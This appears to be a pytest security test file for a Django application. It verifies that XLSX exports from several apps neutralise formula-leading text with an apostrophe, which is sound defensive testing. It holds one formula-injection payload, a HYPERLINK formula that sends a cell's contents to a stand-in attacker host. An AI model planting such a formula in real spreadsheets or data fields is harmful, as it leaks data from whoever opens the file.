"""Exports never carry a live formula: every text cell that starts like one (=, +, -, @, tab,
CR) is written as text with a leading apostrophe, in apps.core.exports and in one export of
every app that uses it."""

from io import BytesIO
from types import SimpleNamespace

import pytest
from openpyxl import load_workbook

from apps.core.exports import neutralise, unneutralise, xlsx_bytes
from tests.factories.people import make_person
from tests.factories.units import make_unit, make_user

pytestmark = pytest.mark.django_db
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def cells(content: bytes):
    book = load_workbook(BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_live_formula(content: bytes, *, expect_text=FORMULA):
    found = cells(content)
    assert [c.coordinate for c in found if c.data_type == "f"] == []
    assert not [c.value for c in found if isinstance(c.value, str) and c.value.startswith(("=", "+", "@"))]
    assert any(c.value == "'" + expect_text for c in found), "the export did not include the value"


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_leading_character_is_neutralised_by_the_shared_export(lead):
    value = f"{lead}1+1"
    found = cells(xlsx_bytes(headers=[f"{lead}标题"], rows=[[value, "普通文字", 5, -3]]))
    values = [c.value for c in found]
    assert f"'{lead}标题" in values and f"'{value}" in values
    assert "普通文字" in values and 5 in values and -3 in values  # numbers stay numbers
    assert all(c.data_type != "f" for c in found)


def test_neutralised_text_reads_back_as_the_original():
    for value in ["=1+1", "+8613800000000", "-", "@me", "普通", "'引号", ""]:
        assert unneutralise(neutralise(value)) == value


@pytest.fixture
def formula_unit(tree):
    return make_unit(tree.station, "squad", FORMULA)


@pytest.fixture
def ctx(tree):
    return SimpleNamespace(tree=tree, root_user=make_user(is_superuser=True))


def test_the_people_export_neutralises_names_and_units(tree, formula_unit, api, ctx):
    make_person(formula_unit, name="=1+2")
    response = api(ctx.root_user).get("/api/people/export/")
    assert response.status_code == 200
    assert_no_live_formula(response.content)
    assert "'=1+2" in [c.value for c in cells(response.content)]


def test_the_talks_export_neutralises_formula_text(tree, formula_unit, api, ctx):
    from tests.security.objects import FACTORIES

    FACTORIES["talks.talkrecord"](formula_unit, ctx)
    response = api(ctx.root_user).get("/api/talks/records/export/")
    assert response.status_code == 200
    assert_no_live_formula(response.content)


def test_the_reports_export_neutralises_formula_text(tree, formula_unit, api, ctx):
    from tests.security.objects import FACTORIES

    FACTORIES["reports.zeroreport"](formula_unit, ctx)
    response = api(ctx.root_user).get("/api/reports/zero-reports/export/")
    assert response.status_code == 200
    assert_no_live_formula(response.content)


def test_the_evaluations_ranking_export_neutralises_formula_text(tree, formula_unit, api, ctx):
    from tests.security.objects import FACTORIES

    evaluation = FACTORIES["evaluations.evaluation"](formula_unit, ctx)
    from apps.evaluations.models import Evaluation

    Evaluation.objects.filter(pk=evaluation.pk).update(total=80)  # a scored evaluation ranks
    evaluation.person.name = FORMULA  # written past the services, as old data may be
    evaluation.person.save(update_fields=["name"])
    response = api(ctx.root_user).get(
        "/api/evaluations/evaluations/ranking-xlsx/", {"scheme": evaluation.scheme_id, "year": 2026}
    )
    assert response.status_code == 200, response.content[:300]
    assert_no_live_formula(response.content)


def test_the_base_admin_export_action_neutralises_formula_text(tree, formula_unit, client, ctx):
    from apps.units.models import Unit

    client.force_login(ctx.root_user)
    response = client.post(
        "/admin/units/unit/",
        {"action": "export_xlsx", "_selected_action": [formula_unit.pk], "index": 0},
    )
    assert response.status_code == 200, response.content[:300]
    assert Unit.objects.filter(name=FORMULA).exists()
    assert_no_live_formula(response.content)
